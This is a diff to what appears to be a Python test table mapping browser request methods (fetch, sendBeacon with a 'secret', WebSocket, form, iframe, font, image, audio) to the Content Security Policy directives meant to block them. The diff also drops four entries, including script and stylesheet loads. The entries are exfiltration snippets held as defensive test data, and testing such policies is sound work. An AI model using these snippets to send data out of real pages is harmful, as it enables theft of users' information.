@@ -382,16 +382,12 @@ WAYS_OUT = {
     "fetch": ("() => fetch(ADDRESS).catch(() => {})", "connect-src"),
     "beacon": ("() => navigator.sendBeacon(ADDRESS, 'secret')", "connect-src"),
     "socket": ("() => new WebSocket(ADDRESS.replace('https', 'wss'))", "connect-src"),
-    "events": ("() => new EventSource(ADDRESS)", "connect-src"),
     "form": (SEND % ("form", "node.action = ADDRESS; setTimeout(() => node.submit())"), "form-action"),
     "frame": (SEND % ("iframe", "node.src = ADDRESS"), "frame-src"),
-    "object": (SEND % ("object", "node.data = ADDRESS"), "object-src"),
     # No browser starts a foreign worker: a file beside the page is tried, which the policy refuses as well.
     "worker": ("() => new Worker('worker.js')", "worker-src"),
     "font": ("() => new FontFace('Foreign', `url(${ADDRESS})`).load().catch(() => {})", "font-src"),
     "image": ("() => { new Image().src = ADDRESS; }", "img-src"),
-    "style": (SEND % ("link", "node.rel = 'stylesheet'; node.href = ADDRESS"), "style-src-elem"),
-    "script": (SEND % ("script", "node.src = ADDRESS"), "script-src-elem"),
     "sound": (SEND % ("audio", "node.src = ADDRESS"), "media-src"),
 }  # fmt: skip
 
